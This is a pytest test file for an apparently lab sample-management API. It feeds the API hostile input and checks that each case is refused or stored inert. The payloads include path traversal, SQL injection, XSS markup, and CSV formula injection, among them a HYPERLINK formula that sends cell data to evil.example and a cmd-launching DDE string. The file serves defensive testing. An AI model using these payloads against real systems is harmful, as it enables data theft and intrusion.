"""A catalogue of malformed and hostile input: every case is a 4xx with a code and changes nothing;
what is stored is stored verbatim and comes back out inert (CSV cells, HTML)."""
import csv
import io
from urllib.parse import quote

import pytest

from .conftest import events, samples

HOSTILE_BARCODES = ["", " ", "AB", "AB C", "ABC\r\nX", "A\tBC", "ABC\x00", "ABC\x07",
                    "\x1b[31mABC", "ÄBC-1", "АВС-1", "ＡＢＣ-1", "ABC\u200b1", "ABC\u202e1", "🧪-1", "x" * 65,
                    "x" * 10_000, "../../etc/passwd", "ABC/1", "ABC%00", "ABC;1", "' OR 1=1 --",
                    "<script>", "=HYPERLINK(1)", "CMD:MOVE"]


def _state():
    return samples(), events()


def test_scanner_whitespace_around_a_barcode_is_trimmed(api, box):
    tech = api("technician")
    for i, scanned in enumerate([" WS-1", "WS-2 ", "WS-3\n", "\tWS-4\r\n"]):
        created = tech.post("/samples", json={"barcode": scanned, "sample_type": "plasma",
                                              "location": {"container_id": box.id, "position": f"A{i + 1}"}})
        assert created.status_code == 201 and created.json["barcode"] == scanned.strip()


@pytest.mark.parametrize("barcode", HOSTILE_BARCODES, ids=lambda b: repr(b[:12]))
def test_hostile_barcodes_are_refused_everywhere_with_a_code(api, make, box, barcode):
    make.sample("OK-1", box=box, position="A1")
    tech = api("technician")
    before = _state()
    register = tech.post("/samples", json={"barcode": barcode, "sample_type": "plasma",
                                           "location": {"container_id": box.id, "position": "B1"}})
    assert register.status_code == 422 and register.json["code"] == "invalid_barcode", register.json
    assert register.json["message"]
    path = quote(barcode, safe="")
    if path:
        for response in (tech.get(f"/samples/{path}"),
                         tech.post(f"/samples/{path}/move", json={"container_id": box.id, "position": "C1"}),
                         tech.post(f"/samples/{path}/checkout", json={"reason": "x"}),
                         tech.post(f"/samples/{path}/discard", json={"reason": "x"})):
            assert 400 <= response.status_code < 500 and response.json["code"], (response.status_code,
                                                                                 response.get_data()[:200])
    assert _state() == before


def test_wrong_content_types_and_malformed_bodies(api, box):
    tech = api("technician")
    before = _state()
    body = '{"barcode": "CT-1", "sample_type": "plasma"}'
    cases = [tech.post("/samples", data=body, content_type="text/plain"),
             tech.post("/samples", data=body, content_type="application/xml"),
             tech.post("/samples", data={"barcode": "CT-1", "sample_type": "plasma"}),
             tech.post("/samples", data='{"barcode": "CT-1", ', content_type="application/json"),
             tech.post("/samples", data=b"\xff\xfe\x00", content_type="application/json"),
             tech.post("/samples", json=["CT-1", "plasma"]),
             tech.post("/samples", json="CT-1"),
             tech.post("/samples", json=None),
             tech.post("/samples", data="[" * 5000 + "]" * 5000, content_type="application/json"),
             tech.post("/samples", json={"barcode": "CT-1", "sample_type": "plasma", "volume": "1e999999"}),
             tech.post("/samples", json={"barcode": "CT-1", "sample_type": "plasma",
                                         "location": {"container_id": 10**30, "position": "A1"}}),
             tech.post("/samples/import", data=b"\xff\xfebarcode", content_type="text/csv"),
             tech.post("/samples/import", data="", content_type="text/csv"),
             tech.get("/samples?page=99999999999999999999999&per_page=10"),
             tech.get("/samples?container_id=99999999999999999999999")]
    for n, response in enumerate(cases):
        assert 400 <= response.status_code < 500, (n, response.status_code, response.get_data()[:300])
        assert response.json["code"] and response.json["message"]
    assert _state() == before


@pytest.mark.parametrize("path,kwargs", [
    ("/samples", {"json": {"barcode": "BIG-1", "sample_type": "plasma", "notes": "n" * 70_000}}),
    ("/samples/import", {"data": b"barcode,sample_type\n" + b"A" * 70_000, "content_type": "text/csv"}),
    ("/auth/token", {"json": {"username": "u", "password": "p" * 70_000}}),
])
def test_oversized_bodies_get_413_and_change_nothing(app, api, path, kwargs):
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    tech = api("technician")
    before = _state()
    response = tech.post(path, **kwargs)
    assert response.status_code == 413 and response.json["code"] == "too_large"
    assert _state() == before


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_exports_neutralise_formulas_in_every_text_field(api, make, box):
    tech = api("technician")
    for i, formula in enumerate(FORMULAS):
        created = tech.post("/samples", json={"barcode": f"FX-{i}", "sample_type": "plasma", "notes": formula,
                                              "location": {"container_id": box.id,
                                                           "position": f"{'ABCD'[i // 4]}{i % 4 + 1}"}})
        assert created.status_code == 201, created.json
        assert tech.get(f"/samples/FX-{i}").json["notes"] == formula  # stored verbatim
        assert tech.post(f"/samples/FX-{i}/checkout", json={"reason": formula}).status_code == 200
    manager = api("manager")
    for client, url in ((tech, "/samples?format=csv"), (manager, "/audit/export?format=csv")):
        export = client.get(url)
        rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
        export.close()
        cells = [cell for row in rows[1:] for cell in row]
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                     or (cell[:1] == "-" and not cell[1:].replace(".", "").isdigit())]
        assert not dangerous, dangerous


SQL_LIKE = ["'; DROP TABLE sample; --", "D1' OR '1'='1", "x\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
            "%' UNION SELECT password_hash FROM user_account --", "\\'; --"]


def test_sql_looking_strings_are_stored_verbatim_and_match_nothing_else(api, make, box):
    tech = api("technician")
    make.sample("PLAIN-1", box=box, position="D4", notes="ordinary")
    for i, value in enumerate(SQL_LIKE):
        created = tech.post("/samples", json={"barcode": f"SQ-{i}", "sample_type": "plasma", "notes": value, "location": {"container_id": box.id,
                                                                           "position": f"A{i % 4 + 1}"
                                                                           if i < 4 else f"B{i - 3}"}})
        assert created.status_code == 201, created.json
        got = tech.get(f"/samples/SQ-{i}").json
        assert got["notes"] == value
        found = tech.get("/samples", query_string={"q": value}).json
        assert [s["barcode"] for s in found["items"]] == [f"SQ-{i}"]
        assert tech.get("/samples", query_string={"donor": value}).json["total"] == 0
    assert samples() == len(SQL_LIKE) + 1


def test_markup_in_notes_and_names_is_shown_as_text_in_the_web_pages(app, make, box):
    from ..factories import PASSWORD
    script = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    make.sample("XSS-1", box=box, position="A1", notes=script)
    named = make.box(name='<svg onload=alert(1)>', rows=1, cols=1)
    user = make.user("technician")
    client = app.test_client()
    assert client.post("/login", data={"username": user.username, "password": PASSWORD}).status_code == 302
    for url in ("/samples/XSS-1", f"/containers/{box.id}", f"/containers/{named.id}", "/samples?q=XSS"):
        page = client.get(url)
        if page.status_code == 404:
            continue
        html = page.get_data(as_text=True)
        assert "<script>alert" not in html and "<img src=x" not in html and "<svg onload" not in html, url
    sample_page = client.get("/samples/XSS-1").get_data(as_text=True)
    assert "&lt;script&gt;alert(" in sample_page


# -- text that is not valid Unicode, CSV cells past the csv module's limit ------------------------
LONE_SURROGATES = ["\ud800", "a\udfffb", "\udc80" * 3]


def _raw_json(body: dict, text: str) -> bytes:
    """JSON with `text` spelled as \\u escapes where the body says "@@" (json.dumps would refuse nothing,
    but the test client encodes to UTF-8 first, which a lone surrogate cannot be)."""
    import json
    escaped = "".join(f"\\u{ord(c):04x}" for c in text)
    return json.dumps(body).replace("@@", escaped).encode()


@pytest.mark.parametrize("text", LONE_SURROGATES, ids=repr)
def test_a_lone_surrogate_in_any_free_text_field_is_refused_with_invalid_text(api, make, box, text):
    make.sample("SUR-1", box=box, position="A1", donor="D-SUR")
    tech, manager, admin, researcher = api("technician"), api("manager"), api("admin"), api("researcher")
    before = _state()
    calls = [
        (tech, "/samples", {"barcode": "SUR-2", "sample_type": "plasma", "notes": "@@",
                            "location": {"container_id": box.id, "position": "B1"}}),
        (tech, "/samples", {"barcode": "@@", "sample_type": "plasma"}),
        (tech, "/samples", {"barcode": "SUR-3", "sample_type": "plasma", "@@": "key"}),
        (tech, "/samples/SUR-1/checkout", {"reason": "@@"}),
        (tech, "/samples/SUR-1/move", {"container_id": box.id, "position": "C1", "reason": "@@"}),
        (tech, "/samples/SUR-1/discard", {"reason": "@@"}),
        (tech, "/samples/SUR-1/aliquot", {"count": 1, "volume": "0.1", "reason": "@@"}),
        (admin, "/containers", {"name": "@@", "kind": "box", "rows": 2, "cols": 2}),
        (admin, "/containers/layout", {"name": "@@", "kind": "tank", "racks": 1, "boxes_per_rack": 1,
                                       "rows": 2, "cols": 2}),
        (manager, "/donors/D-SUR/withdraw-consent", {"reason": "@@"}),
        (researcher, "/requests", {"title": "@@", "purpose": "p", "ethics_reference": "E", "samples": ["SUR-1"]}),
        (researcher, "/requests", {"title": "t", "purpose": "p", "ethics_reference": "E", "samples": ["@@"]}),
        (tech, "/labels", {"barcodes": ["SUR-1"], "reason": "@@"}),
        (api(None), "/auth/token", {"username": "@@", "password": "x"}),
        (api(None), "/auth/token", {"username": "u", "password": "@@"}),
    ]
    for client, path, body in calls:
        response = client.post(path, data=_raw_json(body, text), content_type="application/json")
        assert response.status_code == 422, (path, body, response.status_code, response.get_data()[:300])
        assert response.json["code"] == "invalid_text" and "Unicode" in response.json["message"], response.json
    assert _state() == before


def test_form_and_query_text_that_is_not_utf8_is_refused_not_replaced(app, make, box):
    from ..factories import PASSWORD
    make.sample("UTF-1", box=box, position="A1")
    user = make.user("technician")
    client = app.test_client()
    client.post("/login", data={"username": user.username, "password": PASSWORD})
    before = _state()
    for body in (b"reason=%ff%fe", b"reason=caf\xe9", b"reason=%ed%a0%80"):
        response = client.post("/samples/UTF-1/checkout", data=body,
                               content_type="application/x-www-form-urlencoded", follow_redirects=True)
        assert response.status_code < 500
        assert "not valid Unicode" in response.get_data(as_text=True)
    assert _state() == before
    searched = client.get("/api/v1/samples?q=%ff", headers={"Accept": "application/json"})
    assert searched.status_code == 422 and searched.json["code"] == "invalid_text"


HUGE = "x" * 131_073  # one more than the csv module's field limit


def test_a_csv_cell_past_the_field_limit_is_a_422_naming_the_line_in_every_upload(api, app, make, box, runner,
                                                                                   tmp_path):
    from ..factories import PASSWORD
    tech, manager = api("technician"), api("manager")
    user = make.user("technician")
    header = "barcode,sample_type,donor,collected_at,volume,unit,anatomical_site,diagnosis,parent_barcode"
    text = f"{header}\nHUGE-0,plasma,D1,,,,,,\nHUGE-1,plasma,D1,,,,,,\"{HUGE}\"\n"
    before = _state()
    imported = tech.post("/samples/import", data=text.encode(), content_type="text/csv")
    assert imported.status_code == 422 and imported.json["code"] == "invalid_csv", imported.get_data()[:300]
    assert "Line 3" in imported.json["message"] and "131,072" in imported.json["message"]
    unquoted = tech.post("/samples/import", data=f"{header}\n{HUGE},plasma,D1,,,,,,\n".encode(),
                         content_type="text/csv")
    assert unquoted.status_code == 422 and "Line 2" in unquoted.json["message"]
    in_header = tech.post("/samples/import", data=f"{header},{HUGE}\n".encode(), content_type="text/csv")
    assert in_header.status_code == 422 and in_header.json["code"] == "invalid_csv"
    scan = f"A1,\"{HUGE}\"\nA2,NO TUBE\n".encode()
    reconciled = manager.post(f"/containers/{box.id}/reconcile", data={"file": (io.BytesIO(scan), "scan.csv")},
                              content_type="multipart/form-data")
    assert reconciled.status_code == 422, reconciled.get_data()[:300]
    assert "131,072" in str(reconciled.json)
    # the web page and the command line say the same
    client = app.test_client()
    client.post("/login", data={"username": user.username, "password": PASSWORD})
    page = client.post("/samples/import", data={"file": (io.BytesIO(text.encode()), "big.csv")},
                       content_type="multipart/form-data", follow_redirects=True)
    assert page.status_code < 500 and "131,072" in page.get_data(as_text=True)
    file = tmp_path / "big.csv"
    file.write_text(text)
    result = runner.invoke(args=["import", "samples", str(file)])
    assert result.exit_code != 0 and "131,072" in result.output, result.output[-500:]
    assert _state() == before
